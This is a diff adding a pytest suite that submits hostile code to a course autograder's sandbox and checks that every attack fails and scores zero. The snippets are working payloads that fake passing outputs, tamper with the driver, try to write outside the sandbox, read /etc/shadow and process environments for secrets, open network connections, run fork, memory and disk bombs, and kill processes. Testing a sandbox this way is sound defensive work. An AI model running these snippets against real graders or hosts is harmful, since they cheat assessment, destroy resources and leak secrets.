@@ -1,0 +1,636 @@
+"""Hostile submissions against the real grader (sandbox, driver, judge).
+
+Each attack is a snippet appended to ``tests/adapters.py`` (it runs when the driver loads the
+student's adapters, before any case) on top of the bare handout and of the reference solution.
+For every attack: ``results.json`` is written, bare + attack scores 0, reference + attack scores
+no more than the reference, nothing outside the grading folder changed (a canary folder, the
+instructor's expected values, case files, driver and environment), no process is left behind,
+no secret and no network peer was reached. Malformed zips are refused with a clear message.
+
+The default run is a smoke subset cheap enough for CI; ``CS336_GRADER_ATTACKS=all`` (``make
+grader-attacks``) runs every attack. Needs bubblewrap; without it the tests are skipped unless
+``CS336_REQUIRE_SANDBOX=1`` (CI), where they fail.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import secrets
+import shutil
+import socket
+import subprocess
+import sys
+import textwrap
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from course.grade import CASE_FILES, REPO_ROOT, Course, grade, grade_batch
+from course.sandbox import SANDBOX_UID_BASE, SandboxUnavailable, check_sandbox
+
+COMPONENT = "softmax"
+RUBRIC = f"""
+[limits]
+timeout_s = 60
+memory_gib = 3
+processes = 200
+
+[[component]]
+name = "{COMPONENT}"
+points = 4
+"""
+FULL = 4.0
+SMOKE = {"all_in_one"}
+WANT_ALL = os.environ.get("CS336_GRADER_ATTACKS") == "all"
+
+
+def _sandbox_or_skip() -> None:
+    try:
+        check_sandbox()
+    except SandboxUnavailable as error:
+        if os.environ.get("CS336_REQUIRE_SANDBOX") == "1":
+            raise
+        pytest.skip(f"no working bubblewrap sandbox here: {error}")
+
+
+# --- The attacks (placeholders: {token} {canary} {repo} {course} {port} {port6} {unix} {abstract}) ----
+
+FORGE = """
+def _forge():
+    import glob, json, os
+    for path in glob.glob("/grader/inputs/*/*.json") + glob.glob("/grader/inputs/*.json"):
+        case = os.path.basename(path)[: -len(".json")]
+        header = {"case": case, "status": "ok", "error": None, "values": {}, "tensors": [], "seconds": 0}
+        for folder in ("/out", os.getcwd()):
+            try:
+                with open(os.path.join(folder, case + ".json"), "w") as stream:
+                    json.dump(header, stream)
+            except OSError:
+                pass
+"""
+
+ATTACKS: dict[str, str] = {
+    # Write "passed" outputs for every case, then leave before the driver writes real ones.
+    "forge_outputs_then_exit": FORGE + "_forge()\nimport os\nos._exit(0)\n",
+    # The same from atexit handlers and a thread racing the driver's own writes.
+    "forge_from_atexit_and_thread": FORGE
+    + """
+import atexit, threading, time
+atexit.register(_forge)
+def _loop():
+    while True:
+        _forge()
+        time.sleep(0.005)
+threading.Thread(target=_loop, daemon=True).start()
+""",
+    # Find the reference solution anywhere (environment, file system, metadata) and use it.
+    "import_reference": """
+import importlib.metadata, os, sys
+_found = []
+for _top in ("/", ):
+    for _dir, _subdirs, _files in os.walk(_top):
+        if _dir.startswith(("/proc", "/sys", "/work", "/in")):
+            _subdirs[:] = []
+            continue
+        if os.path.basename(_dir) == "cs336_basics" and "model.py" in _files:
+            _found.append(_dir)
+for _name in ("cs336-basics", "cs336_basics"):
+    try:
+        _found.append(importlib.metadata.distribution(_name).read_text("direct_url.json"))
+    except Exception:
+        pass
+for _path in ("{repo}", "{repo}/cs336_basics"):
+    if os.path.isdir(_path):
+        _found.append(_path)
+sys.path[:0] = ["{repo}"]
+import cs336_basics
+for _dir in _found:
+    if os.path.isdir(_dir):
+        cs336_basics.__path__.insert(0, _dir)
+if _found:
+    raise RuntimeError("LEAK reference found: %r" % _found)
+""",
+    # Grading must not run pytest or any file of the zip besides the code: hooks do nothing.
+    "pytest_hooks_and_conftest": """
+import os
+for _name in ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py"):
+    try:
+        open(os.path.join(os.getcwd(), _name), "w").write("raise SystemExit(0)\\n")
+    except OSError:
+        pass
+""",
+    # Patch the driver in memory so every case "passes" with made-up outputs.
+    "tamper_driver_in_memory": """
+import __main__, sys
+def _fake_run_case(case, adapters, inputs):
+    return __main__.Outputs({}, None) if hasattr(__main__, "Outputs") else None
+for _module in list(sys.modules.values()):
+    if getattr(_module, "run_case", None) is not None:
+        try:
+            _module.run_case = _fake_run_case
+        except Exception:
+            pass
+import pathlib
+for _path in pathlib.Path("/grader").rglob("*.py"):
+    try:
+        _path.write_text("raise SystemExit(0)\\n")
+    except OSError:
+        pass
+""",
+    # Regain write access (remount, new namespaces) and write outside the sandbox.
+    "write_outside_and_remount": """
+import os, subprocess
+for _cmd in (["mount", "-o", "remount,rw", "/grader"], ["mount", "-o", "remount,rw", "/"],
+             ["unshare", "-Urm", "sh", "-c", "mount -o remount,rw /grader; echo x > /grader/course/driver.py"],
+             ["mount", "-t", "tmpfs", "none", "/grader"], ["su", "-c", "id"], ["chroot", "/"]):
+    try:
+        subprocess.run(_cmd, capture_output=True, timeout=10)
+    except Exception:
+        pass
+_written = []
+for _path in ("{canary}/written", "{canary}/file", "{course}/course/hidden/expected/pwned",
+              "{course}/course/driver.py", "{repo}/course/driver.py",
+              "/grader/course/driver.py", "/opt/site-packages/torch/__init__.py",
+              "/usr/lib/pwned", "/etc/passwd", "/proc/sysrq-trigger", "/proc/1/root/grader/x"):
+    try:
+        with open(_path, "a") as _stream:
+            _stream.write("pwned")
+        _written.append(_path)
+    except OSError:
+        pass
+if any(not p.startswith("/proc") for p in _written):
+    raise RuntimeError("LEAK wrote %r" % _written)
+""",
+    # Kill every process it can see: the driver's parents, the grader if it were visible.
+    "kill_everything": """
+import os, signal
+for _pid in range(1, 4096):
+    if _pid != os.getpid():
+        try:
+            os.kill(_pid, signal.SIGKILL)
+        except OSError:
+            pass
+os.kill(-1, signal.SIGKILL)
+""",
+    # Daemons in their own sessions that try to rewrite outputs later.
+    "daemon_survives": """
+import os, subprocess, sys
+_code = "import time\\nwhile True:\\n    time.sleep(0.05)\\n    open('/out/forged.json', 'w').write('x')"
+for _session in (True, False):
+    subprocess.Popen([sys.executable, "-S", "-c", _code, "{token}"], start_new_session=_session,
+                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-S", "-c", "import time; time.sleep(600)", "{token}"])
+    os._exit(0)
+""",
+    # Read host secrets, the expected values, the environment of the grader.
+    "read_secrets": """
+import os
+_leaks = []
+for _path in ("/etc/shadow", "/root", "/home", "{canary}/secret.txt", "{repo}", "{course}",
+              "{course}/course/hidden/expected", "/proc/1/environ"):
+    try:
+        _leaks.append((_path, os.listdir(_path) if os.path.isdir(_path) else open(_path, "rb").read()[:200]))
+    except OSError:
+        pass
+_leaks = [l for l in _leaks if l[0] != "/proc/1/environ" or b"{token}" in l[1]]
+for _pid in os.listdir("/proc"):
+    try:
+        if b"{token}" in open("/proc/%s/environ" % _pid, "rb").read():
+            _leaks.append(_pid)
+    except OSError:
+        pass
+for _dir, _subdirs, _files in os.walk("/"):
+    if _dir.startswith(("/proc", "/sys", "/grader", "/usr", "/opt")):
+        _subdirs[:] = []
+        continue
+    _leaks += [os.path.join(_dir, f) for f in _files if "expected" in f]
+_env = {k for k in os.environ if k not in {"PATH", "HOME", "TMPDIR", "LANG", "PYTHONPATH",
+        "LD_LIBRARY_PATH", "PYTHONDONTWRITEBYTECODE", "PYTHONHASHSEED", "OMP_NUM_THREADS",
+        "MKL_NUM_THREADS", "MPLBACKEND", "PWD"}}
+if _env:
+    _leaks.append(("environment", sorted(_env)))
+if _leaks:
+    raise RuntimeError("LEAK %r" % _leaks)
+""",
+    # Reach the host: TCP over IPv4 and IPv6, Unix sockets (path and abstract), raw sockets.
+    "network": """
+import socket
+_reached = []
+def _try(what, make, address):
+    try:
+        s = make()
+        s.settimeout(2)
+        s.connect(address)
+        s.sendall(b"{token}")
+        _reached.append(what)
+    except OSError:
+        pass
+_try("inet", lambda: socket.socket(socket.AF_INET), ("127.0.0.1", {port}))
+_try("inet6", lambda: socket.socket(socket.AF_INET6), ("::1", {port6}))
+_try("unix", lambda: socket.socket(socket.AF_UNIX), "{unix}")
+_try("abstract", lambda: socket.socket(socket.AF_UNIX), "\\0{abstract}")
+_try("outside", lambda: socket.socket(socket.AF_INET), ("1.1.1.1", 53))
+for _family, _type, _proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
+                                (getattr(socket, "AF_PACKET", 17), socket.SOCK_RAW, 0)):
+    try:
+        socket.socket(_family, _type, _proto)
+        _reached.append(("raw", _family))
+    except OSError:
+        pass
+try:
+    socket.getaddrinfo("example.com", 80)
+    _reached.append("dns")
+except OSError:
+    pass
+if _reached:
+    raise RuntimeError("LEAK network %r" % _reached)
+""",
+    # Resource bombs: memory across many processes, processes, disk, output.
+    "memory_bomb": """
+import os, time
+for _ in range(8):
+    if os.fork() == 0:
+        _block = bytearray(600 * 2**20)
+        for _i in range(0, len(_block), 4096):
+            _block[_i] = 1
+        time.sleep(600)
+        os._exit(0)
+try:
+    _huge = bytearray(64 * 2**30)
+except MemoryError:
+    pass
+time.sleep(600)
+""",
+    "fork_bomb": """
+import os, time
+if os.fork() == 0:
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            time.sleep(0.01)
+time.sleep(2)
+""",
+    "disk_bomb": """
+import os
+for _folder in ("/work", "/tmp", "/dev/shm", "/out", os.getcwd(), "/"):
+    try:
+        with open(os.path.join(_folder, "fill"), "wb") as _stream:
+            for _ in range(4096):
+                _stream.write(b"x" * 2**20)
+    except OSError:
+        pass
+for _i in range(20000):
+    try:
+        open("/out/f%d" % _i, "w").close()
+    except OSError:
+        break
+""",
+    # Sparse files: little space on the tmpfs, gigabytes in the output stream.
+    "sparse_output_bomb": """
+import os
+for _i in range(200):
+    try:
+        with open("/out/s%d.json" % _i, "wb") as _stream:
+            _stream.truncate(60 * 2**20)
+    except OSError:
+        break
+""",
+    "output_bomb": """
+import sys
+for _ in range(200):
+    sys.stderr.write("spam" * 250000)
+    print("spam" * 250000)
+raise RuntimeError("x" * 10**7)
+""",
+    # Special files where the judge expects outputs; device nodes.
+    "fifos_links_and_devices": FORGE
+    + """
+import glob, os
+for _path in glob.glob("/grader/inputs/*/*.json"):
+    _case = os.path.basename(_path)[: -len(".json")]
+    for _name, _make in ((_case + ".json", os.mkfifo),
+                          (_case + ".safetensors", lambda p: os.symlink("{course}/course/hidden/expected", p))):
+        try:
+            os.unlink("/out/" + _name)
+        except OSError:
+            pass
+        try:
+            _make("/out/" + _name)
+        except OSError:
+            pass
+try:
+    os.mknod("/out/null", 0o20666, os.makedev(1, 3))
+except OSError:
+    pass
+os._exit(0)
+""",
+    # Never return, ignoring the driver's alarm: only the wall-clock limit stops it.
+    "hang_ignoring_alarm": """
+import signal
+signal.signal(signal.SIGALRM, signal.SIG_IGN)
+signal.setitimer = lambda *a, **k: None
+while True:
+    pass
+""",
+    "segfault": "import ctypes\nctypes.string_at(0)\n",
+    # Break the driver's own machinery: poisoned stdlib modules, exits of every kind.
+    "poison_modules": """
+import json, sys
+json.dump = json.dumps = lambda *a, **k: (_ for _ in ()).throw(SystemExit(0))
+sys.modules["safetensors"] = None
+raise KeyboardInterrupt
+""",
+    # Nested user namespaces and setuid helpers are off.
+    "namespaces_and_setuid": """
+import ctypes, os, subprocess
+_got = []
+_libc = ctypes.CDLL(None, use_errno=True)
+if _libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
+    _got.append("userns")
+for _cmd in (["unshare", "-U", "true"], ["newuidmap"], ["sudo", "true"], ["mount", "--bind", "/", "/tmp"]):
+    try:
+        if subprocess.run(_cmd, capture_output=True, timeout=10).returncode == 0:
+            _got.append(_cmd[0])
+    except Exception:
+        pass
+if _got:
+    raise RuntimeError("LEAK privileges %r" % _got)
+""",
+}
+
+
+# Several attacks in one submission, for the smoke run: each raises only on success, and the
+# forgery comes last because it ends the process.
+ATTACKS["all_in_one"] = "\n".join(
+    ATTACKS[name]
+    for name in (
+        "import_reference",
+        "write_outside_and_remount",
+        "read_secrets",
+        "network",
+        "namespaces_and_setuid",
+        "daemon_survives",
+        "forge_outputs_then_exit",
+    )
+)
+# The same probes without the sandbox succeed: proof that the attacks above have teeth. Only
+# those that read: the writing ones would damage the checkout.
+READING_PROBES = {"import_reference": "LEAK reference found", "network": "LEAK network"}
+
+
+# --- Building zips -----------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def bases(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
+    """The reference solution's zip and the bare handout's zip, built now."""
+    _sandbox_or_skip()
+    folder = tmp_path_factory.mktemp("bases")
+    run = [sys.executable, "-m"]
+    subprocess.run(
+        [*run, "course.handout", "--out", str(folder / "dist")],
+        check=True,
+        cwd=REPO_ROOT,
+        capture_output=True,
+    )
+    for name, root in (("reference", REPO_ROOT), ("bare", folder / "dist" / "handout")):
+        subprocess.run(
+            [*run, "course.submission", "--root", str(root), "--out", str(folder / f"{name}.zip")],
+            check=True,
+            cwd=REPO_ROOT,
+            capture_output=True,
+        )
+    return {"reference": folder / "reference.zip", "bare": folder / "bare.zip"}
+
+
+@pytest.fixture(scope="module")
+def course_copy(tmp_path_factory: pytest.TempPathFactory) -> Course:
+    """A private copy of the instructor's grading material: the attacks aim at it, and its
+    fingerprint is not disturbed by anyone editing the checkout meanwhile."""
+    root = tmp_path_factory.mktemp("course")
+    for rel in ("course/driver.py", "course/hidden", *CASE_FILES):
+        source, target = REPO_ROOT / rel, root / rel
+        target.parent.mkdir(parents=True, exist_ok=True)
+        if source.is_dir():
+            shutil.copytree(source, target, ignore=shutil.ignore_patterns("__pycache__"))
+        else:
+            shutil.copyfile(source, target)
+    hidden = root / "course" / "hidden"
+    return Course(root=root, inputs=hidden / "inputs", expected=hidden / "expected")
+
+
+def with_attack(base: Path, out: Path, snippet: str, extra: dict[str, str] | None = None) -> Path:
+    """``base`` with ``snippet`` appended to its ``tests/adapters.py`` and ``extra`` files."""
+    with zipfile.ZipFile(base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as sink:
+        for info in source.infolist():
+            data = source.read(info)
+            if info.filename.endswith("tests/adapters.py"):
+                data += b"\n\n# --- attack ---\n" + snippet.encode()
+            sink.writestr(info, data)
+        for name, text in (extra or {}).items():
+            sink.writestr(name, text)
+    return out
+
+
+class Host:
+    """What the attacks aim at on the grading machine: a canary folder with a secret, network
+    listeners, and fingerprints of the instructor's files."""
+
+    def __init__(self, tmp: Path, course: Course) -> None:
+        self.course = course
+        self.token = "cs336attack" + secrets.token_hex(8)
+        self.canary = tmp / "canary"
+        self.canary.mkdir()
+        (self.canary / "file").write_text("untouched")
+        (self.canary / "secret.txt").write_text(self.token)
+        (self.canary / "secret.txt").chmod(0o600)
+        self.inet = socket.create_server(("127.0.0.1", 0))
+        self.inet6 = (
+            socket.create_server(("::1", 0), family=socket.AF_INET6) if socket.has_ipv6 else None
+        )
+        self.unix_path = str(tmp / "host.sock")
+        self.unix = socket.socket(socket.AF_UNIX)
+        self.unix.bind(self.unix_path)
+        self.abstract_name = self.token
+        self.abstract = socket.socket(socket.AF_UNIX)
+        self.abstract.bind("\0" + self.abstract_name)
+        for listener in self.listeners:
+            listener.listen()
+            listener.setblocking(False)
+        self.before = self.fingerprint()
+
+    @property
+    def listeners(self) -> list[socket.socket]:
+        return [s for s in (self.inet, self.inet6, self.unix, self.abstract) if s is not None]
+
+    def fill(self, snippet: str) -> str:
+        values = {
+            "token": self.token,
+            "canary": str(self.canary),
+            "repo": str(REPO_ROOT),
+            "course": str(self.course.root),
+            "port": self.inet.getsockname()[1],
+            "port6": self.inet6.getsockname()[1] if self.inet6 else 1,
+            "unix": self.unix_path,
+            "abstract": self.abstract_name,
+        }
+        for key, value in values.items():
+            snippet = snippet.replace("{" + key + "}", str(value))
+        return snippet
+
+    def fingerprint(self) -> dict[str, str]:
+        watched = [
+            *sorted(self.canary.rglob("*")),
+            *sorted(self.course.root.rglob("*")),
+            Path(__import__("torch").__file__),
+        ]
+        return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in watched if p.is_file()}
+
+    def assert_untouched(self) -> None:
+        assert self.fingerprint() == self.before, "a file outside the grading folder changed"
+        for listener in self.listeners:
+            with pytest.raises(BlockingIOError):
+                listener.accept()  # nobody connected
+
+    def leftover_processes(self) -> list[str]:
+        """Processes of this test (the attack's marker, or a sandbox uid below this process)
+        still alive. Other graders running on the machine are not ours to count."""
+        parents, found = {}, []
+        for entry in filter(str.isdigit, os.listdir("/proc")):
+            try:
+                status = Path(f"/proc/{entry}/status").read_text()
+                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
+            except OSError:
+                continue
+            fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
+            parents[int(entry)] = int(fields["PPid"])
+            uid = int(fields["Uid"].split()[0])
+            in_sandbox = SANDBOX_UID_BASE <= uid < SANDBOX_UID_BASE + 256
+            if self.token.encode() in cmdline or (
+                in_sandbox and self._below_us(int(entry), parents)
+            ):
+                found.append(f"{entry} uid={uid} {cmdline[:100]!r}")
+        return found
+
+    @staticmethod
+    def _below_us(pid: int, parents: dict[int, int]) -> bool:
+        while pid > 1:
+            try:
+                pid = parents.get(pid) or int(
+                    Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1]
+                )
+            except (OSError, ValueError, IndexError):
+                return False
+            if pid == os.getpid():
+                return True
+        return False
+
+    def close(self) -> None:
+        for listener in self.listeners:
+            listener.close()
+
+
+@pytest.fixture
+def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, course_copy: Course):
+    host = Host(tmp_path, course_copy)
+    monkeypatch.setenv("CS336_HOST_SECRET", host.token)  # must not reach the sandbox
+    yield host
+    host.close()
+
+
+def grade_attack(zip_path: Path, out: Path, rubric: Path, host: Host) -> dict:
+    report = grade(zip_path, out, rubric=rubric, course=host.course, jobs=1, quiet=True)
+    written = json.loads((out / "results.json").read_text())
+    assert written == report
+    assert {t["name"] for t in report["tests"]} == {COMPONENT}
+    text = json.dumps(report)
+    assert host.token not in text, "a secret reached results.json"
+    assert "LEAK" not in text, text[:2000]
+    assert "grader error" not in text, text[:2000]
+    time.sleep(0.5)
+    assert json.loads((out / "results.json").read_text()) == report, "results changed afterwards"
+    return report
+
+
+@pytest.fixture
+def rubric(tmp_path: Path) -> Path:
+    path = tmp_path / "rubric.toml"
+    path.write_text(RUBRIC)
+    return path
+
+
+@pytest.mark.parametrize("attack", [a for a in ATTACKS if WANT_ALL or a in SMOKE], ids=lambda a: a)
+def test_attack(
+    attack: str, bases: dict[str, Path], host: Host, rubric: Path, tmp_path: Path
+) -> None:
+    snippet = host.fill(textwrap.dedent(ATTACKS[attack]))
+    extra = {
+        "conftest.py": "raise SystemExit(0)\n",
+        "tests/conftest.py": "import os\nos._exit(0)\n",
+    }
+    scores = {}
+    for base in ("bare", "reference"):
+        zip_path = with_attack(bases[base], tmp_path / f"{base}.zip", snippet, extra)
+        report = grade_attack(zip_path, tmp_path / base, rubric, host)
+        scores[base] = report["score"]
+    assert scores["bare"] == 0.0
+    assert scores["reference"] <= FULL
+    host.assert_untouched()
+    assert host.leftover_processes() == []
+
+
+@pytest.mark.parametrize("probe", list(READING_PROBES))
+def test_the_probes_find_leaks_without_the_sandbox(
+    probe: str, bases: dict[str, Path], host: Host, rubric: Path, tmp_path: Path
+) -> None:
+    snippet = host.fill(textwrap.dedent(ATTACKS[probe]))
+    zip_path = with_attack(bases["bare"], tmp_path / "probe.zip", snippet)
+    report = grade(
+        zip_path, tmp_path / "out", rubric=rubric, course=host.course, sandbox=False, quiet=True
+    )
+    assert READING_PROBES[probe] in json.dumps(report)
+
+
+def test_reference_and_bare_without_attack(
+    bases: dict[str, Path], rubric: Path, tmp_path: Path
+) -> None:
+    """The baseline the attacks are measured against: full marks and zero."""
+    assert grade(bases["reference"], tmp_path / "ref", rubric=rubric, quiet=True)["score"] == FULL
+    assert grade(bases["bare"], tmp_path / "bare", rubric=rubric, quiet=True)["score"] == 0.0
+
+
+def test_batch_goes_on_after_hostile_zips(
+    bases: dict[str, Path], host: Host, rubric: Path, tmp_path: Path
+) -> None:
+    folder = tmp_path / "zips"
+    folder.mkdir()
+    honest = bases["reference"].read_bytes()
+    (folder / "a_honest.zip").write_bytes(honest)
+    with_attack(bases["bare"], folder / "b_killer.zip", ATTACKS["kill_everything"])
+    (folder / "c_garbage.zip").write_bytes(b"PK\x03\x04 not really a zip")
+    with_attack(
+        bases["reference"], folder / "d_forger.zip", host.fill(ATTACKS["forge_outputs_then_exit"])
+    )
+    (folder / "e_honest.zip").write_bytes(honest)
+    csv_path = grade_batch(folder, tmp_path / "grades", jobs=2, rubric=rubric, course=host.course)
+    rows = [line.split(",")[:3] for line in csv_path.read_text().splitlines()]
+    assert rows[0] == ["submission", "total", COMPONENT]
+    scores = {row[0]: float(row[1]) for row in rows[1:]}
+    assert scores == {
+        "a_honest.zip": FULL,
+        "b_killer.zip": 0.0,
+        "c_garbage.zip": 0.0,
+        "d_forger.zip": 0.0,
+        "e_honest.zip": FULL,
+    }
+    for name in scores:
+        assert (tmp_path / "grades" / Path(name).stem / "results.json").is_file()
+    assert host.leftover_processes() == []
